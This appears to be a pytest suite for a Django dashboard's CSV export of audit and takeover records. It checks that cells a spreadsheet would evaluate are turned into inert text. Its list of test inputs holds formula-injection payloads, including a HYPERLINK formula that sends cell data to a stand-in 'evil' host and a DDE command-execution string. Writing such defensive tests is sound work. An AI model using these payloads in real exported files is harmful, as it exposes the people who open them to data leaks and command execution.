"""The record as CSV: exactly what the list finds, as text that no spreadsheet calculates with."""

import csv
import io
from datetime import datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dashboard import audit, record_csv, takeover
from dashboard.audit import Source
from dashboard.models import AuditEvent, TakeoverAttempt
from dashboard.record_csv import as_text
from queue_api.errors import Refused, Try
from queue_api.models import Account
from tests.conftest import person
from tests.takeovers import NUMBER, signed_in
from tests.test_record_admin import staff
from tests.test_takeover import another_call, begun

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as Response

pytestmark = pytest.mark.django_db
LINES, ATTEMPTS = (reverse(f"admin:dashboard_{model}_changelist") for model in ("auditevent", "takeoverattempt"))


@pytest.fixture
def office(admin: User) -> Client:
    return signed_in(admin)


def rows(response: "Response") -> list[dict[str, str]]:
    """As a spreadsheet reads it: UTF-8 with its mark, then columns by name."""
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def found(client: Client, address: str, **asked: Any) -> list[dict[str, str]]:
    return rows(client.get(f"{address}csv/", asked))


# ── the file ───────────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(("address", "name"), [(LINES, "record"), (ATTEMPTS, "takeovers")])
def test_the_file_is_for_taking_along_and_kept_nowhere(office: Client, address: str, name: str) -> None:
    response = office.get(f"{address}csv/")
    assert response["Content-Disposition"] == f'attachment; filename="{name}-{timezone.now():%Y-%m-%d}.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    assert not response.streaming
    assert rows(response) == []


def test_a_line_has_the_lists_columns_and_the_moment_in_utc(
    office: Client, supervisor: User, account: Account
) -> None:
    attempt = begun(supervisor, account)
    takeover.mark_sent(attempt)
    takeover.settle(attempt, Refused("takeover", code="1000", message=f"No call of {NUMBER}",
                                     log=(Try("1501", "Busy", 900), Try("1000", "No", 60)), tries=2))
    newest, *_, first = found(office, LINES)
    event = AuditEvent.objects.latest("seq")
    assert abs(datetime.fromisoformat(newest["time (UTC)"]) - event.at) < timedelta(milliseconds=1)
    assert newest["time (UTC)"].endswith("+00:00")
    assert list(newest.values())[1:] == [
        "3", "Takeover: refused", "Sita", "Northgate", attempt.call_ref, "•••• 5678", "192.0.2.7", "1000",
        "No call of •••• 5678", "2 tries, 1.0 s"]
    assert (first["seq"], first["code"], first["message"], first["tries"]) == ("1", "", "", "")
    row, = found(office, ATTEMPTS)
    assert (row["actor name"], row["account"], row["outcome"], row["message"]) == (
        "Sita", "Northgate", "refused", "No call of •••• 5678")
    assert NUMBER not in repr(row)


# ── what is in it ──────────────────────────────────────────────────────────────────────────────────
def test_it_holds_exactly_what_the_list_finds_on_all_pages(office: Client) -> None:
    for number in range(230):
        audit.record("takeover.refused" if number % 2 else "takeover.sent", actor="Sita" if number % 3 else "Omar",
                     code=str(1000 + number % 5))
    assert [row["seq"] for row in found(office, LINES)] == [str(seq) for seq in range(230, 0, -1)]
    asked = {"kind": "takeover.refused", "q": "Sita", "code": "1003"}
    expected = AuditEvent.objects.filter(kind="takeover.refused", actor_name="Sita", detail__code="1003")
    assert [row["seq"] for row in found(office, LINES, **asked, o="1", p="2")] == [
        str(event.seq) for event in expected.order_by("seq")]


@pytest.mark.parametrize("asked", [
    "?kind=takeover.sent&q=Sita", "?at__year=2026&o=-3", "?code=1000&account_name=%3D1%2B1"])
def test_the_lists_link_leads_to_what_it_shows(office: Client, asked: str) -> None:
    shown = office.get(LINES + asked).content.decode()
    parts = sorted(asked[1:].split("&"))
    assert f'<a href="{LINES}csv/?{"&amp;".join(parts)}">CSV</a>' in shown


def test_what_is_more_than_fits_is_cut_and_the_name_says_so(office: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(record_csv, "MOST_LINES", 3)
    for count in range(1, 6):
        audit.record("takeover.sent")
        response = office.get(f"{LINES}csv/")
        assert len(rows(response)) == min(count, 3)
        assert ("-first-3-only.csv" in response["Content-Disposition"]) == (count > 3)


def test_the_rows_are_read_in_one_pass(
    office: Client, supervisor: User, account: Account, django_assert_max_num_queries: Any
) -> None:
    for number in range(5):
        begun(supervisor, account, another_call(number))
    with django_assert_max_num_queries(8):  # two for who asks, one to count, one for the rows, the others for filters
        assert len(found(office, ATTEMPTS)) == 5


# ── nothing is calculated ──────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(("cell", "text"), [
    ("=1+1", "'=1+1"), ("+919812345678", "'+919812345678"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("\tname", "'\tname"), ("\rname", "'\rname"),
    ("  =1", "'  =1"), ("\u00a0+1", "'\u00a0+1"), ("\u3000@a", "'\u3000@a"), ("\ufeff=1", "'\ufeff=1"),
    ("\u200b-1", "'\u200b-1"), ("\x00=1", "'\x00=1"),
    ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠a", "'＠a"),
    ("a;=1", "a;'=1"), ("a; -1", "a;' -1"), ("a\n=1", "a\n'=1"), ("a\t+1", "a\t'+1"), ("=1;=2", "'=1;'=2"),
])
def test_what_a_spreadsheet_would_calculate_is_text(cell: str, text: str) -> None:
    assert as_text(cell) == text


@pytest.mark.parametrize("cell", [
    "", "Sita", "1000", "a=b", "1-c-9", "•••• 5678", "Ben → –", "me@example.org", "2026-01-01T00:00:00+00:00", "'=1",
    "a;b", "Gone – “really”", "3 tries, 1.9 s", " ", "–",
])
def test_everything_else_is_left_as_it_is(cell: str) -> None:
    assert as_text(cell) == cell


NASTY = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+SUM(1,2)", "-1+cmd|' /C calc'!A0", "@now", "\t=1", " =1",
         "＝1", 'a";=1;"', "a\r\n=1", "x,=1", '"=1"']


@pytest.mark.parametrize("nasty", NASTY)
def test_names_and_words_full_of_formulas_stay_in_their_cell_as_text(
    office: Client, account: Account, nasty: str
) -> None:
    account.name = nasty[:60]
    account.save()
    attempt = begun(person("eve"), account)
    TakeoverAttempt.objects.update(
        actor_name=nasty, message=nasty, agent_before_name=nasty, call_ref=nasty, code=nasty[:16])
    audit.record(nasty[:40], actor=nasty, account=nasty, call_ref=nasty, attempt_id=attempt.pk, code=nasty,
                 message=nasty, address=nasty, by=nasty, verdict=nasty, caller_last4=nasty)
    for address, count in ((LINES, 2), (ATTEMPTS, 1)):
        file = found(office, address)
        assert len(file) == count
        for name, cell in ((name, cell) for row in file for name, cell in row.items()):
            assert as_text(cell) == cell, (name, cell)
            assert name is not None
        assert as_text(nasty) in {cell for row in file for cell in row.values()}


# ── for whom ───────────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(("address", "right"), [(LINES, "view_auditevent"), (ATTEMPTS, "view_takeoverattempt")])
def test_who_may_look_may_take_it_along_and_nobody_else(supervisor: User, address: str, right: str) -> None:
    assert found(signed_in(staff("looker", right)), address) == []
    assert signed_in(staff("nobody", "view_display")).get(f"{address}csv/").status_code == 403
    assert signed_in(supervisor).get(f"{address}csv/").status_code == 302
    assert Client().get(f"{address}csv/").status_code == 302


def test_odd_filters_lead_back_to_the_list(office: Client) -> None:
    assert office.get(f"{LINES}csv/?at__year=99999")["Location"] == "../?e=1"
    assert office.get(f"{LINES}csv/?at__year=99999", follow=True).status_code == 200
    assert office.get(f"{LINES}csv/?no__such=1").status_code == 400


def test_the_browsers_address_is_what_the_record_says(office: Client) -> None:
    audit.record("session.stored", **Source("2001:db8::7", "0a1b2c3d").detail())
    assert found(office, LINES, q="2001:db8")[0]["from"] == "2001:db8::7"
